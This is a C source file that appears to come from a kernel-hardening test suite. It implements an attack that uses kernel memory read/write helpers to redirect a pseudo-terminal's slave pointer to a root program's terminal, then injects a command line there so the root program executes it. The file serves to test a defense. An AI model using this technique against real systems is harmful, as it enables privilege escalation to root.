// SPDX-License-Identifier: GPL-2.0-only
#include "commands.h"

#include <asm/ioctls.h>

ATTACK("page_cache_integrity", "terminal_other",
       "page_cache_integrity: bytes for the terminal of another",
       "The program changes which terminal is the slave of its own master to that of a "
       "program of root, and types there.",
       "Each terminal's page says in sealed memory who types.",
       "Root's program does what the attacker has typed.");

#define SEARCHED 8192u /* bytes of a pair */

/* A terminal of one's own: the master, and the address of what says which terminal is its slave. */
static uint64_t slave_place(long *master)
{
	uint64_t pair, slave;
	int unlocked = 0;
	long file;

	*master = call3(__NR_open, (long)"/dev/ptmx", O_RDWR | O_NOCTTY, 0);
	call3(__NR_ioctl, *master, TIOCSPTLCK, (long)&unlocked);
	file = call3(__NR_ioctl, *master, TIOCGPTPEER, O_RDWR | O_NOCTTY);
	pair = peek(file_struct(own_task(), (int)*master) + member("file.private"));
	slave = peek(file_struct(own_task(), (int)file) + member("file.private"));
	for (uint64_t at = pair; at < pair + SEARCHED; at += 8)
		if (peek(at) == slave)
			return at;
	say_part("attacker: there is no slave in its pair\n");
	leave(9);
}

static bool fire(void)
{
	static const char line[] = { PUBLISH_COMMAND, '\n' };
	long master;
	const uint64_t place = slave_place(&master), own = peek(place);

	poke(place, victim_object());
	call3(__NR_write, master, (long)line, sizeof(line));
	poke(place, own);
	return victim_obeys();
}

static void victim(void)
{
	const long master = call3(__NR_open, (long)"/dev/ptmx", O_RDWR | O_NOCTTY, 0);
	int unlocked = 0;

	call3(__NR_ioctl, master, TIOCSPTLCK, (long)&unlocked);
	obey((int)call3(__NR_ioctl, master, TIOCGPTPEER, O_RDWR | O_NOCTTY));
}
